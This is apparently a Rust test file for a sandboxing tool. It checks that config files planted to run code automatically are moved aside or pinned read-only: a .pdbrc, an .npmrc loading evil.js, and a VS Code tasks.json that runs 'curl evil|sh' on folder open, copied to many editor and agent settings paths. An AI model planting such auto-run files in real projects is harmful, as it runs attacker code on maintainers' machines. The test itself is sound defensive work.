//! A15: editor and tool files that run code when the maintainer opens or enters the directory,
//! or runs their usual command there. Real tools prove the attack where they run here (pdb's
//! `.pdbrc`, npm's `.npmrc`); VS Code, Cursor, JetBrains, mise, Emacs and Dev Containers do not
//! run on this machine, so for their files the test shows they are pinned (existing) or moved
//! aside (new) by name, as the catalogue says.

use super::a14_git_anywhere::{marked, marker, proven_then_stopped};
use super::harness::*;

/// `.pdbrc` (pdb runs it when you debug here) and `.npmrc` (`node-options` makes every node of
/// your next `npm run` load a file): planted, they run at the maintainer's next pdb and npm.
#[test]
fn planted_pdbrc_and_npmrc_are_moved_aside() {
    for r in runners() {
        let setup = |_: &Fixture| {
            "echo 'x = 1' > s.py && echo '{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"t\":\"node -e 1\"}}' > package.json"
                .to_string()
        };
        let attack = |fx: &Fixture| {
            let m = marker(fx);
            format!(
                "printf 'import os; os.system(\"touch {m}\")\\ncontinue\\n' > .pdbrc
                 echo 'node-options=--require ./evil.js' > .npmrc
                 echo 'require(\"fs\").writeFileSync(\"{m}\", \"\")' > evil.js"
            )
        };
        let later = |_: &Fixture| {
            "echo | python3 -m pdb s.py >/dev/null 2>&1; npm run -s t 2>&1; true".to_string()
        };
        let (fx, inn) = proven_then_stopped(&r, &setup, &attack, &later, &marked);
        for name in [".pdbrc", ".npmrc"] {
            assert!(
                inn.stderr
                    .contains(&format!("{}/{name}", fx.project.display())),
                "[{r}] keepout names {name}:{inn}"
            );
            assert!(!fx.project.join(name).exists(), "[{r}] {name} is gone");
        }
    }
}

/// Existing editor files cannot be changed (pinned read-only); new ones anywhere in the tree
/// are moved aside and named, one per catalogue kind the tools here cannot run.
#[test]
fn editor_files_pinned_and_new_ones_moved_aside() {
    const NEW: &[&str] = &[
        "sub/.vscode/tasks.json",
        "proj.code-workspace",
        ".devcontainer/devcontainer.json",
        ".idea/workspace.xml",
        ".cursor/mcp.json",
        ".dir-locals.el",
        "mise.toml",
        ".cargo/config.toml",
        ".nvim.lua",
        ".envrc",
        "deep/er/.env",
        ".claude/settings.json",
    ];
    for r in runners() {
        let fx = Fixture::new(&r);
        let tasks = "{\"tasks\":[]}\n";
        let s = fx.outside(&format!(
            "mkdir .vscode && printf '{tasks}' > .vscode/tasks.json"
        ));
        assert!(s.success(), "{s}");
        let evil = "{\"tasks\":[{\"label\":\"x\",\"type\":\"shell\",\"command\":\"curl evil|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}";
        let mut script = format!("printf '%s' '{evil}' > .vscode/tasks.json; echo existing=$?\n");
        for rel in NEW {
            script.push_str(&format!(
                "mkdir -p \"$(dirname {rel})\" && printf '%s' '{evil}' > {rel}; echo {rel}=$?\n"
            ));
        }
        let inn = fx.inside(&[], &script);
        assert!(
            inn.has("existing=") && !inn.has("existing=0"),
            "[{r}] the existing tasks.json cannot be written:{inn}"
        );
        assert_eq!(
            read(&fx.project.join(".vscode/tasks.json")).as_deref(),
            Some(tasks),
            "[{r}] unchanged:{inn}"
        );
        for rel in NEW {
            assert!(
                inn.has(&format!("{rel}=0")),
                "[{r}] inside, {rel} was written:{inn}"
            );
            // What was moved is the catalogue entry (the file, or the directory holding it).
            let top = rel
                .split('/')
                .find(|c| c.starts_with('.') || c.contains('.'))
                .unwrap();
            let prefix = &rel[..rel.find(top).unwrap() + top.len()];
            assert!(
                !fx.project.join(prefix).exists()
                    && inn
                        .stderr
                        .contains(&format!("{}/{prefix} (", fx.project.display())),
                "[{r}] {prefix} is moved aside and named:{inn}"
            );
        }
    }
}
